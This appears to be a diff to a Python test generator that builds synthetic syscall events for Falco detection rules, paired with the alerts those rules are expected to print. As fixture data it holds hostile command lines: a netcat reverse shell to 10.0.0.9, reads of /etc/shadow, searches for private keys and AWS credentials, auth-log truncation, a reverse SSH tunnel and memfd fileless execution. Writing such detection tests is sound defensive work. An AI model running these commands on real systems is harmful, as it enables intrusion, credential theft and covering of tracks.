@@ -106,6 +106,9 @@ def s_proc(c):
     execve_x(c, 602, ENOENT, "-bash", [], 602, 600, "bash")
     c.event("PPME_SYSCALL_EXECVE_19_E", 602, "/usr/bin/id")
     execve_x(c, 602, 0, "id", ["-u"], 602, 600, "id")
+    c.expect("all", "Basic Interactive Reconnaissance", "Notice",
+             "Basic Interactive Reconnaissance | " +
+             tail("execve", "alice", 1000, 1000, "id", "/usr/bin/id", "bash", "id -u", TTY, "0"))
     c.event("PPME_SYSCALL_WRITE_E", 602, 1, 5)
     c.event("PPME_SYSCALL_WRITE_X", 602, 5, b"1000\n")
     procexit(c, 602, 256)
@@ -138,11 +141,17 @@ def s_proc(c):
     c.event("PPME_SYSCALL_SETRESGID_X", 605, 0)
     c.event("PPME_SYSCALL_SETUID_E", 605, 0)
     c.event("PPME_SYSCALL_SETUID_X", 605, EPERM)
+    # (the successful setuid(0) above made the thread root: no alert for it)
+    TOOL = ("www-data", 33, 1000, "tool", "/home/alice/bin/tool", "bash", "tool --serve 8080", TTY)
+    c.expect("all", "Non sudo setuid", "Notice",
+             "Unexpected setuid call by non-sudo, non-root program | arg_uid=root " + tail("setuid", *TOOL))
     # namespaces
     c.event("PPME_SYSCALL_OPEN_E", 605, "/proc/1/ns/net", O_RDONLY, 0)
     c.event("PPME_SYSCALL_OPEN_X", 605, 3, "/proc/1/ns/net", O_RDONLY, 0, 4, n=5)
     c.event("PPME_SYSCALL_SETNS_E", 605, 3, CL_NEWNET)
     c.event("PPME_SYSCALL_SETNS_X", 605, 0)
+    c.expect("all", "Change thread namespace", "Notice",
+             "Namespace change (setns) by unexpected program | " + tail("setns", *TOOL))
     c.event("PPME_SYSCALL_UNSHARE_E", 605, CL_NEWNS | CL_NEWUSER)
     c.event("PPME_SYSCALL_UNSHARE_X", 605, 0)
     # cwd: chdir (absolute, relative, ..), fchdir
@@ -182,7 +191,7 @@ def s_files(c):
     fcntl, pipe, the *at family, rename/link/symlink, chmod family, mmap/mprotect,
     userfaultfd, bpf, ptrace."""
     world(c)
-    t = 600
+    PYT = tail("%s", "alice", 1000, 1000, "python3", "/usr/bin/python3", "bash", "python3 app.py", TTY)
     spawn(c, 600, 610, "python3", ["app.py"], "python3", "/usr/bin/python3", ptid=510)
     t = 610
     E, X = "PPME_SYSCALL_OPEN_E", "PPME_SYSCALL_OPEN_X"
@@ -214,8 +223,13 @@ def s_files(c):
     c.event(OX, t, EACCES, 7, "ssh_host_rsa_key", O_RDONLY, 0, 0, n=6)
     c.event(OE, t, AT_FDCWD, "/root/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT, 0o600)
     c.event(OX, t, 9, AT_FDCWD, "/root/.ssh/authorized_keys", O_WRONLY | O_APPEND | O_CREAT, 0o600, 0x803, n=6)
+    c.expect("all", "Adding ssh keys to authorized_keys", "Warning",
+             "Adding ssh keys to authorized_keys | file=/root/.ssh/authorized_keys " + PYT % "openat")
     c.event(OE, t, AT_FDCWD, "/tmp", O_RDWR | O_TMPFILE, 0o600)
     c.event(OX, t, 11, AT_FDCWD, "/tmp", O_RDWR | O_TMPFILE, 0o600, 0x803, n=6)
+    # an O_TMPFILE open names the directory: fd.name /tmp, fd.directory / (not O_DIRECTORY)
+    c.expect("all", "Write below root", "Error",
+             "File below / or /root opened for writing | file=/tmp " + PYT % "openat")
     # openat2 with resolve flags
     c.event("PPME_SYSCALL_OPENAT2_E", t, 7, "moduli", O_RDONLY | O_CLOEXEC, 0, 0x1 | 0x8)
     c.event("PPME_SYSCALL_OPENAT2_X", t, 12, 7, "moduli", O_RDONLY | O_CLOEXEC, 0, 0x1 | 0x8)
@@ -257,20 +271,40 @@ def s_files(c):
     pair("UNLINK_2", 0, "/tmp/new.bin")
     pair("RENAMEAT", 0, AT_FDCWD, "a.txt", 7, "b.txt")
     pair("RENAMEAT2", 0, AT_FDCWD, "/tmp/x", AT_FDCWD, "/usr/bin/x", 1)
+    c.expect("all", "Modify binary dirs", "Error",
+             "File below known binary directory renamed/removed | file=<NA> pcmdline=bash evt_args=res=0 "
+             "olddirfd=-100(AT_FDCWD) oldpath=/tmp/x newdirfd=-100(AT_FDCWD) newpath=/usr/bin/x "
+             "flags=1(RENAME_NOREPLACE) evt_type=renameat2 " + PYT % "renameat2")
     pair("RENAME", 0, "/var/log/syslog", "/var/log/syslog.1")
     pair("MKDIRAT", 0, AT_FDCWD, "build", 0o755)
     pair("MKDIRAT", EEXIST, 7, "keys", 0o700)
     pair("MKDIR_2", 0, "/tmp/.hidden", e=(0o700,))
     pair("RMDIR_2", 0, "/tmp/.hidden")
     pair("SYMLINKAT", 0, "/etc/shadow", AT_FDCWD, "shadow_link")
+    for rs in ("falco", "all"):
+        c.expect(rs, "Create Symlink Over Sensitive Files", "Warning",
+                 "Symlinks created over sensitive files | target=/etc/shadow linkpath=/home/alice/shadow_link " +
+                 PYT % "symlinkat")
     pair("SYMLINKAT", 0, "/etc", 7, "etc_link")
+    for rs in ("falco", "all"):
+        c.expect(rs, "Create Symlink Over Sensitive Files", "Warning",
+                 "Symlinks created over sensitive files | target=/etc linkpath=/etc/ssh/etc_link " + PYT % "symlinkat")
     pair("SYMLINK", 0, "/root/.ssh", "/tmp/sshdir")
     pair("LINKAT_2", 0, AT_FDCWD, "/etc/passwd", AT_FDCWD, "/tmp/pw", 0)
     pair("LINKAT_2", 0, 7, "sshd_config", AT_FDCWD, "cfg", 0x400)
     pair("LINK_2", 0, "/etc/sudoers", "/tmp/sud")
+    for rs in ("falco", "all"):
+        c.expect(rs, "Create Hardlink Over Sensitive Files", "Warning",
+                 "Hardlinks created over sensitive files | target=/etc/sudoers linkpath=/tmp/sud " + PYT % "link")
     pair("CHMOD", 0, "/tmp/run.sh", 0o4755)
+    c.expect("all", "Set Setuid or Setgid bit", "Notice",
+             "Setuid or setgid bit is set via chmod | fd=<NA> filename=/tmp/run.sh mode=S_IXOTH|S_IROTH|S_IXGRP|"
+             "S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID " + PYT % "chmod")
     pair("CHMOD", EPERM, "/usr/bin/passwd", 0o777)
     pair("FCHMOD", 0, 4, 0o2750)
+    c.expect("all", "Set Setuid or Setgid bit", "Notice",
+             "Setuid or setgid bit is set via chmod | fd=<f>/tmp/out.log filename=<NA> mode=S_IXGRP|S_IRGRP|"
+             "S_IXUSR|S_IWUSR|S_IRUSR|S_ISGID " + PYT % "fchmod")
     pair("FCHMODAT", 0, AT_FDCWD, "script.sh", 0o755)
     pair("FCHMODAT", 0, 7, "moduli", 0o1777)
     # memory: mmap of a file fd, mprotect RWX, munmap
@@ -283,6 +317,9 @@ def s_files(c):
     # ptrace (old layout: request and pid in the enter event)
     c.event("PPME_SYSCALL_PTRACE_E", t, 11, 800)
     c.event("PPME_SYSCALL_PTRACE_X", t, 0, (0, "UINT64", 0), (0, "UINT64", 0))
+    for rs in ("falco", "all"):
+        c.expect(rs, "PTRACE attached to process", "Warning",
+                 "Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash " + PYT % "ptrace")
     c.event("PPME_SYSCALL_PTRACE_E", t, 3, 800)
     c.event("PPME_SYSCALL_PTRACE_X", t, 0, (0, "UINT64", 0x400000), (0, "UINT64", 0x4242))
     # close everything still open; fd.* after close
@@ -296,9 +333,15 @@ def s_files(c):
     # its DYN res_or_fd parameter; it is in the rule captures only.)
     spawn(c, 600, 611, "uffd", [], "uffd", "/usr/local/bin/uffd", ptid=510)
     c.event("PPME_SYSCALL_USERFAULTFD_E", 611)
+    UF = ("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "Critical",
+          "An userfaultfd syscall was successfully executed by an unprivileged user | " +
+          tail("userfaultfd", "alice", 1000, 1000, "uffd", "/usr/local/bin/uffd", "bash", "uffd", TTY))
     c.event("PPME_SYSCALL_USERFAULTFD_X", 611, 3, O_CLOEXEC | O_NONBLOCK)
+    c.expect("all", *UF)
     c.event("PPME_SYSCALL_USERFAULTFD_E", 611)
     c.event("PPME_SYSCALL_USERFAULTFD_X", 611, EPERM, 0)
+    # the rule's "(evt.rawres >= 0 or evt.res != -1)": evt.res is "EPERM", never "-1"
+    c.expect("all", *UF)
     procexit(c, 611)
 
 
@@ -370,6 +413,9 @@ def s_net(c):
     c.event("PPME_SYSCALL_WRITE_X", w, 8, b"HTTP/1.0")
     # a new listening socket (bind shell style): socket, bind, listen, accept
     spawn(c, 600, 621, "nc", ["-lvp", "4444"], "nc", "/usr/bin/nc", ptid=510)
+    c.expect("all", "Launch Suspicious Network Tool on Host", "Notice",
+             "Network tool launched on host | " +
+             tail("execve", "alice", 1000, 1000, "nc", "/usr/bin/nc", "bash", "nc -lvp 4444", TTY, "0"))
     t = 621
     S(2, 1, 0)
     c.event("PPME_SOCKET_SOCKET_X", t, 3)
@@ -399,10 +445,427 @@ def s_net(c):
     c.event("PPME_SYSCALL_READ_X", 800, 8, b"\x00\x00\x00\x08\x04\xd2\x16\x2f")
 
 
+CTR1 = "c0ffee123456" + "ab" * 26          # 64 hex digits: docker container id
+CTR2 = "d00d00d00d00" + "cd" * 26
+CTR1_CG = ["cpuset=/docker/" + CTR1, "memory=/docker/" + CTR1]
+CTR2_CG = ["cpuset=/docker/" + CTR2, "memory=/docker/" + CTR2]
+ROOT_ENV = ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOSTNAME=web", "HOME=/root"]
+NOLOGIN = 0xffffffff
+TAIL = "evt_type=%s user=%s user_uid=%d user_loginuid=%d process=%s proc_exepath=%s parent=%s command=%s terminal=%d"
+
+
+def tail(evt, user, uid, luid, proc, exepath, parent, cmd, tty, flags=None):
+    t = TAIL % (evt, user, uid, luid, proc, exepath, parent, cmd, tty)
+    return t if flags is None else t + " exe_flags=" + flags
+
+
+def ctr_clone(c, parent, child, exe, args, comm, cgroups, vpid, pexe, pcomm, pargs=(), cwd="/", newpid=False,
+              pptid=1, pvpid=None):
+    """parent (on the host or in a container) clones child inside a container; pptid: the
+    parent's own parent, pvpid: the parent's pid in its namespace."""
+    pv = parent if pvpid is None else pvpid
+    fl = CL_CHILD_CLEARTID | CL_CHILD_SETTID | ((CL_NEWPID | CL_NEWNS | CL_NEWNET) if newpid else 0)
+    c.event("PPME_SYSCALL_CLONE_20_E", parent)
+    c.event("PPME_SYSCALL_CLONE_20_X", parent, child, pexe, list(pargs), parent, parent, pptid, cwd, 1024, 0, 1,
+            5000, 1000, 0, pcomm, cgroups if not newpid else ["cpuset=/", "memory=/"], fl, 0, 0,
+            pv, pv, n=20)
+    c.event("PPME_SYSCALL_CLONE_20_X", child, 0, pexe, list(pargs), child, child, parent, cwd, 1024, 0, 1,
+            5000, 1000, 0, pcomm, cgroups, fl | ((1 << 29) if not newpid else 0), 0, 0, vpid, vpid, n=20)
+
+
+def ctr_exec(c, tid, path, exe, args, comm, ppid, vpid, cgroups, tty=0, cwd="/", env=ROOT_ENV):
+    c.event("PPME_SYSCALL_EXECVE_19_E", tid, path)
+    c.event("PPME_SYSCALL_EXECVE_19_X", tid, 0, exe, args, tid, tid, ppid, cwd, 1048576, 0, 90, 4000, 1200, 0,
+            comm, cgroups, env, tty, tid, NOLOGIN, 0, n=20)
+
+
+FA = ("falco", "all")
+
+
+def s_attack(c):
+    """Attack sequences the upstream rules (falco_rules.yaml) must flag, with the alerts Falco
+    prints for them (expected text reasoned from each rule's output format and the fields'
+    semantics: fields.md). Old (2022 driver) layouts: also compared with sysdig 0.29.3."""
+    world(c)
+    c.thread(900, 900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
+             ["-namespace", "moby", "-id", CTR1], "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
+    js = '{"container":{"id":"%s","image":"docker.io/library/alpine:3.19","imagerepo":"docker.io/library/alpine",' \
+         '"imagetag":"3.19","ip":"172.17.0.2","name":"web","privileged":false,"type":0}}\n'
+    c.event("PPME_CONTAINER_JSON_E", 0, js % CTR1[:12])
+    js2 = '{"container":{"id":"%s","image":"docker.io/library/ubuntu:22.04","imagerepo":"docker.io/library/ubuntu",' \
+          '"imagetag":"22.04","ip":"172.17.0.3","name":"priv","privileged":true,"type":0}}\n'
+    c.event("PPME_CONTAINER_JSON_E", 0, js2 % CTR2[:12])
+    shim = ("/usr/bin/containerd-shim-runc-v2", ["-namespace", "moby", "-id", CTR1], "containerd-shim")
+
+    # kubectl/docker exec -it: a shell in the container, parent containerd-shim, with a tty
+    ctr_clone(c, 900, 901, shim[0], "", shim[2], CTR1_CG, 1, shim[0], shim[2], shim[1], newpid=True)
+    ctr_exec(c, 901, "/bin/bash", "bash", [], "bash", 900, 1, CTR1_CG, tty=34817)
+    c.expect(FA, "Terminal shell in container", "Notice",
+             "A shell was spawned in a container with an attached terminal | " +
+             tail("execve", "root", 0, -1, "bash", "/bin/bash", "containerd-shim", "bash", 34817, "0"))
+    # netcat with -e from that shell
+    ctr_clone(c, 901, 902, "bash", [], "bash", CTR1_CG, 2, "bash", "bash", pptid=900, pvpid=1)
+    ctr_exec(c, 902, "/usr/bin/nc", "nc", ["-e", "/bin/sh", "10.0.0.9", "4444"], "nc", 901, 2, CTR1_CG, tty=34817)
+    c.expect(FA, "Netcat Remote Code Execution in Container", "Warning",
+             "Netcat runs inside container that allows remote code execution | " +
+             tail("execve", "root", 0, -1, "nc", "/usr/bin/nc", "bash", "nc -e /bin/sh 10.0.0.9 4444", 34817, "0"))
+    # reverse shell: connect, then dup2(sock, 0/1/2)
+    c.event("PPME_SOCKET_SOCKET_E", 902, 2, 1, 6)
+    c.event("PPME_SOCKET_SOCKET_X", 902, 3)
+    c.event("PPME_SOCKET_CONNECT_E", 902, 3, ("inet", "10.0.0.9", 4444))
+    c.event("PPME_SOCKET_CONNECT_X", 902, 0, ("inet", "10.0.0.5", 40000, "10.0.0.9", 4444))
+    for newfd in (0, 1, 2):
+        c.event("PPME_SYSCALL_DUP_E", 902, 3)
+        c.event("PPME_SYSCALL_DUP_X", 902, newfd)
+        c.expect(FA, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
+                 "Redirect stdout/stdin to network connection | gparent=containerd-shim ggparent=systemd "
+                 "gggparent=<NA> fd.sip=10.0.0.9 connection=10.0.0.5:40000->10.0.0.9:4444 lport=40000 "
+                 "rport=4444 fd_type=ipv4 fd_proto=tcp " +
+                 tail("dup", "root", 0, -1, "nc", "/usr/bin/nc", "bash", "nc -e /bin/sh 10.0.0.9 4444", 34817))
+    # a packet socket in the container
+    c.event("PPME_SOCKET_SOCKET_E", 902, 17, 3, 768)
+    c.event("PPME_SOCKET_SOCKET_X", 902, 4)
+    c.expect(FA, "Packet socket created in container", "Notice",
+             "Packet socket was created in a container | socket_info=fd=4(<o>) domain=17(AF_PACKET) type=3 "
+             "proto=768 flags=0(O_NONE) connection= lport=<NA> rport=<NA> fd_type=<NA> fd_proto=<NA> " +
+             tail("socket", "root", 0, -1, "nc", "/usr/bin/nc", "bash", "nc -e /bin/sh 10.0.0.9 4444", 34817))
+
+    # debugfs in a privileged container
+    ctr_clone(c, 900, 910, shim[0], "", shim[2], CTR2_CG, 1, shim[0], shim[2], shim[1], newpid=True)
+    ctr_exec(c, 910, "/usr/sbin/debugfs", "debugfs", ["/dev/sda1"], "debugfs", 900, 1, CTR2_CG)
+    c.expect(FA, "Debugfs Launched in Privileged Container", "Warning",
+             "Debugfs launched started in a privileged container | " +
+             tail("execve", "root", 0, -1, "debugfs", "/usr/sbin/debugfs", "containerd-shim", "debugfs /dev/sda1", 0, "0"))
+
+    # web server spawns a shell (RCE), the shell reads /etc/shadow
+    spawn(c, 701, 720, "sh", ["-c", "id; cat /etc/shadow"], "sh", "/bin/sh", ptid=700, cwd="/", uid=33, gid=33,
+          env=["PATH=/usr/bin:/bin"], loginuid=NOLOGIN, tty=0, pexe="nginx: worker process", pcomm="nginx")
+    c.expect(FA, "Run shell untrusted", "Notice",
+             "Shell spawned by untrusted binary | parent_exe=nginx: worker process parent_exepath=/usr/sbin/nginx "
+             "pcmdline=nginx gparent=nginx ggparent=systemd aname[4]=<NA> aname[5]=<NA> aname[6]=<NA> "
+             "aname[7]=<NA> " +
+             tail("execve", "www-data", 33, -1, "sh", "/bin/sh", "nginx", "sh -c id; cat /etc/shadow", 0, "0"))
+    # the worker itself reads /etc/shadow (trusted program after startup: first matching rule)
+    c.event("PPME_SYSCALL_OPENAT_2_E", 701, AT_FDCWD, "/etc/shadow", O_RDONLY, 0)
+    c.event("PPME_SYSCALL_OPENAT_2_X", 701, 12, AT_FDCWD, "/etc/shadow", O_RDONLY, 0, 0x803, n=6)
+    c.expect(FA, "Read sensitive file trusted after startup", "Warning",
+             "Sensitive file opened for reading by trusted program after startup | file=/etc/shadow pcmdline=nginx "
+             "gparent=systemd ggparent=<NA> gggparent=<NA> " +
+             tail("openat", "www-data", 33, -1, "nginx", "/usr/sbin/nginx", "nginx", "nginx", 0))
+
+    # interactive session: cat /etc/shadow as root (sudo), a system user command, searches
+    spawn(c, 600, 640, "cat", ["/etc/shadow"], "cat", "/usr/bin/cat", ptid=510, uid=0, gid=0)
+    c.event("PPME_SYSCALL_OPEN_E", 640, "/etc/shadow", O_RDONLY | O_CLOEXEC, 0)
+    c.event("PPME_SYSCALL_OPEN_X", 640, 3, "/etc/shadow", O_RDONLY | O_CLOEXEC, 0, 0x803, n=5)
+    c.expect(FA, "Read sensitive file untrusted", "Warning",
+             "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=sshd "
+             "ggparent=sshd gggparent=systemd " +
+             tail("open", "root", 0, 1000, "cat", "/usr/bin/cat", "bash", "cat /etc/shadow", TTY))
+    procexit(c, 640)
+    spawn(c, 600, 641, "id", [], "id", "/usr/bin/id", ptid=510, uid=33, gid=33)
+    c.expect(FA, "System user interactive", "Informational",
+             "System user ran an interactive command | " +
+             tail("execve", "www-data", 33, 1000, "id", "/usr/bin/id", "bash", "id", TTY, "0"))
+    spawn(c, 600, 642, "grep", ["-r", "BEGIN RSA PRIVATE", "/home"], "grep", "/usr/bin/grep", ptid=510)
+    c.expect(FA, "Search Private Keys or Passwords", "Warning",
+             "Grep private keys or passwords activities found | " +
+             tail("execve", "alice", 1000, 1000, "grep", "/usr/bin/grep", "bash", "grep -r BEGIN RSA PRIVATE /home",
+                  TTY, "0"))
+    spawn(c, 600, 643, "find", ["/", "-path", "*.aws/credentials"], "find", "/usr/bin/find", ptid=510)
+    c.expect(FA, "Find AWS Credentials", "Warning",
+             "Detected AWS credentials search activity | proc_pcmdline=bash proc_cwd=/home/alice/ group_gid=1000 "
+             "group_name=alice user_loginname=alice " +
+             tail("execve", "alice", 1000, 1000, "find", "/usr/bin/find", "bash", "find / -path *.aws/credentials",
+                  TTY, "0"))
+    spawn(c, 600, 644, "shred", ["-u", "/tmp/secret"], "shred", "/usr/bin/shred", ptid=510)
+    c.expect(FA, "Remove Bulk Data from Disk", "Warning",
+             "Bulk data has been removed from disk | file=<NA> " +
+             tail("execve", "alice", 1000, 1000, "shred", "/usr/bin/shred", "bash", "shred -u /tmp/secret", TTY, "0"))
+    spawn(c, 600, 645, "/dev/shm/miner", ["--donate=0"], "miner", "/dev/shm/miner", ptid=510)
+    c.expect(FA, "Execution from /dev/shm", "Warning",
+             "File execution detected from /dev/shm | evt_res=SUCCESS file=<NA> proc_cwd=/home/alice/ "
+             "proc_pcmdline=bash user_loginname=alice group_gid=1000 group_name=alice " +
+             tail("execve", "alice", 1000, 1000, "miner", "/dev/shm/miner", "bash", "miner --donate=0", TTY, "0"))
+    # log tampering by a root shell
+    spawn(c, 600, 646, "sh", ["-c", ": > /var/log/auth.log"], "sh", "/bin/sh", ptid=510, uid=0, gid=0)
+    c.event("PPME_SYSCALL_OPENAT_2_E", 646, AT_FDCWD, "/var/log/auth.log", O_WRONLY | O_CREAT | O_TRUNC, 0o666)
+    c.event("PPME_SYSCALL_OPENAT_2_X", 646, 3, AT_FDCWD, "/var/log/auth.log", O_WRONLY | O_CREAT | O_TRUNC, 0o666,
+            0x803, n=6)
+    c.expect(FA, "Clear Log Activities", "Warning",
+             "Log files were tampered | file=/var/log/auth.log " +
+             tail("openat", "root", 0, 1000, "sh", "/bin/sh", "bash", "sh -c : > /var/log/auth.log", TTY))
+    # reverse ssh tunnel to a non-standard port
+    spawn(c, 600, 647, "ssh", ["-R", "9000:localhost:22", "-p", "443", "203.0.113.5"], "ssh", "/usr/bin/ssh",
+          ptid=510)
+    c.event("PPME_SOCKET_SOCKET_E", 647, 2, 1, 6)
+    c.event("PPME_SOCKET_SOCKET_X", 647, 3)
+    c.event("PPME_SOCKET_CONNECT_E", 647, 3, ("inet", "203.0.113.5", 443))
+    c.event("PPME_SOCKET_CONNECT_X", 647, 0, ("inet", "10.0.0.5", 38000, "203.0.113.5", 443))
+    c.expect(FA, "Disallowed SSH Connection Non Standard Port", "Notice",
+             "Disallowed SSH Connection | connection=10.0.0.5:38000->203.0.113.5:443 lport=38000 rport=443 "
+             "fd_type=ipv4 fd_proto=tcp " +
+             tail("connect", "alice", 1000, 1000, "ssh", "/usr/bin/ssh", "bash",
+                  "ssh -R 9000:localhost:22 -p 443 203.0.113.5", TTY))
+    # anti-debugging
+    c.event("PPME_SYSCALL_PTRACE_E", 647, 1, 0)
+    c.event("PPME_SYSCALL_PTRACE_X", 647, 0, (0, "UINT64", 0), (0, "UINT64", 0))
+    c.expect(FA, "PTRACE anti-debug attempt", "Notice",
+             "Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=bash " +
+             tail("ptrace", "alice", 1000, 1000, "ssh", "/usr/bin/ssh", "bash",
+                  "ssh -R 9000:localhost:22 -p 443 203.0.113.5", TTY))
+    # directory traversal through a PHP worker (parent php-fpm, not a shell)
+    c.thread(750, 750, 1, "php-fpm8.2", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)", [],
+             "/", exepath="/usr/sbin/php-fpm8.2")
+    spawn(c, 750, 751, "php-fpm: pool www", [], "php-fpm8.2", "/usr/sbin/php-fpm8.2", ptid=1, cwd="/var/www/html",
+          uid=33, gid=33, env=[], loginuid=NOLOGIN, tty=0, pexe="php-fpm: master process", pcomm="php-fpm8.2")
+    c.event("PPME_SYSCALL_OPENAT_2_E", 751, AT_FDCWD, "../../../etc/passwd", O_RDONLY, 0)
+    c.event("PPME_SYSCALL_OPENAT_2_X", 751, 5, AT_FDCWD, "../../../etc/passwd", O_RDONLY, 0, 0x803, n=6)
+    c.expect(FA, "Directory traversal monitored file read", "Warning",
+             "Read monitored file via directory traversal | file=/etc/passwd fileraw=../../../etc/passwd "
+             "gparent=systemd ggparent=<NA> gggparent=<NA> " +
+             tail("openat", "www-data", 33, -1, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm8.2",
+                  "php-fpm8.2", 0))
+
+
+# capabilities (kernel bit numbers)
+CAP_DAC_OVERRIDE, CAP_SYS_MODULE, CAP_SYS_ADMIN, CAP_NET_RAW = 1, 16, 21, 13
+CAPS_DEFAULT = (1 << 0) | (1 << 1) | (1 << 3) | (1 << 4) | (1 << 5) | (1 << 6) | (1 << 7) | (1 << 8) | \
+    (1 << 10) | (1 << 13) | (1 << 18) | (1 << 27) | (1 << 29) | (1 << 31)
+EXE_WRITABLE, EXE_UPPER_LAYER, EXE_FROM_MEMFD = 1, 2, 4
+BOOT_TS = 1699990000000000000
+
+
+def h_clone(c, sym, evtid, res, tid, pid, ptid, exe, args, comm, cgroups, flags, uid=0, gid=0, vtid=None,
+            vpid=None, cwd="/", pidns_start=0):
+    """a clone exit of a current driver (21 parameters)"""
+    c.event(sym, evtid, res, exe, args, tid, pid, ptid, cwd, 1048576, 0, 10, 6000, 1500, 0, comm, cgroups,
+            flags, uid, gid, tid if vtid is None else vtid, pid if vpid is None else vpid, pidns_start)
+
+
+def h_execve(c, tid, res, exe, args, pid, ptid, comm, cgroups, env, filename, exepath, tty=0, pgid=None,
+             loginuid=NOLOGIN, flags=0, caps=CAPS_DEFAULT, ino=(4242, 1699000000000000000, 1699000000000000000),
+             uid=0, gid=0, cwd="/", sym="PPME_SYSCALL_EXECVE_19_X"):
+    """an execve exit of a current driver (31 parameters; execveat: 30, no filename)"""
+    p = [res, exe, args, tid, pid, ptid, cwd, 1048576, 0, 100, 7000, 2500, 0, comm, cgroups, env, tty,
+         pid if pgid is None else pgid, loginuid, flags, caps, caps, caps, ino[0], ino[1], ino[2], uid,
+         exepath, pid if pgid is None else pgid, gid]
+    if sym == "PPME_SYSCALL_EXECVE_19_X":
+        p.append(filename)
+    c.event(sym, tid, *p)
+
+
+def s_head(c):
+    """What current drivers write (exit events only, every parameter of the current schemas,
+    codes sysdig 0.29.3 does not know): memfd fileless execution, kernel module loading,
+    release_agent escape, dup2/dup3 reverse shell, BPF program load, drop and execute in a
+    container, and the state events of the current schema (clone3, pipe2, prctl, accept4,
+    socket/connect with every parameter, procexit with reaper)."""
+    c.boot_ts = BOOT_TS
+    world(c)
+    c.thread(900, 900, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
+             ["-namespace", "moby", "-id", CTR1], "/run/containerd", exepath="/usr/bin/containerd-shim-runc-v2")
+    js = '{"container":{"id":"%s","image":"docker.io/library/alpine:3.19","imagerepo":"docker.io/library/alpine",' \
+         '"imagetag":"3.19","ip":"172.17.0.2","name":"web","privileged":false,"type":0}}'
+    c.event("PPME_CONTAINER_JSON_2_E", 0, js % CTR1[:12])
+    shim_args = ["-namespace", "moby", "-id", CTR1]
+    SHIM = "/usr/bin/containerd-shim-runc-v2"
+
+    # --- fileless execution on the host: memfd_create, write, execveat(fd, "", AT_EMPTY_PATH)
+    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 600, 660, 600, 600, 510, "-bash", [], "bash", ["cpuset=/"],
+            CL_CHILD_CLEARTID | CL_CHILD_SETTID, 1000, 1000, cwd="/home/alice")
+    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 660, 0, 660, 660, 600, "-bash", [], "bash", ["cpuset=/"],
+            CL_CHILD_CLEARTID | CL_CHILD_SETTID, 1000, 1000, cwd="/home/alice")
+    h_execve(c, 660, 0, "python3", ["loader.py"], 660, 600, "python3", ["cpuset=/"], ALICE_ENV,
+             "/usr/bin/python3", "/usr/bin/python3.11", tty=TTY, loginuid=1000, uid=1000, gid=1000,
+             cwd="/home/alice")
+    c.event("PPME_SYSCALL_MEMFD_CREATE_X", 660, 3, "payload", 1)
+    c.event("PPME_SYSCALL_WRITE_X", 660, 4, b"\x7fELF", 3, 4)
+    h_execve(c, 660, 0, "payload", ["-q"], 660, 600, "3", ["cpuset=/"], ALICE_ENV, None, "memfd:payload",
+             tty=TTY, loginuid=1000, flags=EXE_FROM_MEMFD, uid=1000, gid=1000, cwd="/home/alice",
+             sym="PPME_SYSCALL_EXECVEAT_X")
+    # container.start_ts of a host process: the machine's boot time (fields.md)
+    c.expect(FA, "Fileless execution via memfd_create", "Critical",
+             "Fileless execution via memfd_create | container_start_ts=1699990000000000000 proc_cwd=/home/alice/ evt_res=SUCCESS "
+             "proc_sname=bash gparent=sshd " +
+             tail("execveat", "alice", 1000, 1000, "3", "memfd:payload", "bash", "3 -q", TTY, "EXE_FROM_MEMFD"))
+    # a BPF program load by the same process (bpf_2: fd, cmd)
+    c.event("PPME_SYSCALL_BPF_2_X", 660, 5, 5)
+    c.expect("all", "BPF Program Not Profiled", "Notice",
+             "BPF Program Not Profiled | bpf_cmd=BPF_PROG_LOAD " +
+             tail("bpf", "alice", 1000, 1000, "3", "memfd:payload", "bash", "3 -q", TTY))
+    c.event("PPME_SYSCALL_BPF_2_X", 660, -1, 0)
+    c.event("PPME_PROCEXIT_1_E", 660, 0, 0, 0, 0, 600)
+
+    # --- a container started by the shim (clone3 into new namespaces), its shell
+    ns = CL_NEWPID | CL_NEWNS | CL_NEWNET | CL_CHILD_CLEARTID
+    h_clone(c, "PPME_SYSCALL_CLONE3_X", 900, 930, 900, 900, 1, SHIM, shim_args, "containerd-shim",
+            ["cpuset=/"], ns, cwd="/run/containerd")
+    h_clone(c, "PPME_SYSCALL_CLONE3_X", 930, 0, 930, 930, 900, SHIM, shim_args, "containerd-shim",
+            CTR1_CG, ns, vtid=1, vpid=1, cwd="/run/containerd", pidns_start=10000000000)
+    caps_admin = CAPS_DEFAULT | (1 << CAP_SYS_ADMIN) | (1 << CAP_SYS_MODULE)
+    h_execve(c, 930, 0, "/bin/sh", ["-c", "sleep 3600"], 930, 900, "sh", CTR1_CG, ROOT_ENV, "/bin/sh",
+             "/bin/busybox", caps=caps_admin)
+    c.expect("all", "Launch Excessively Capable Container", "Informational",
+             "Excessively capable container started | cap_permitted=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER "
+             "CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_MODULE "
+             "CAP_SYS_CHROOT CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP " +
+             tail("execve", "root", 0, -1, "sh", "/bin/busybox", "containerd-shim", "sh -c sleep 3600", 0))
+    # drop and execute: a binary written to the container's upper layer
+    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 930, 931, 930, 930, 900, "/bin/sh", ["-c", "sleep 3600"], "sh",
+            CTR1_CG, CL_CHILD_CLEARTID | CL_CHILD_SETTID | (1 << 29), vtid=1, vpid=1,
+            pidns_start=10000000000)
+    h_clone(c, "PPME_SYSCALL_CLONE_20_X", 931, 0, 931, 931, 930, "/bin/sh", ["-c", "sleep 3600"], "sh",
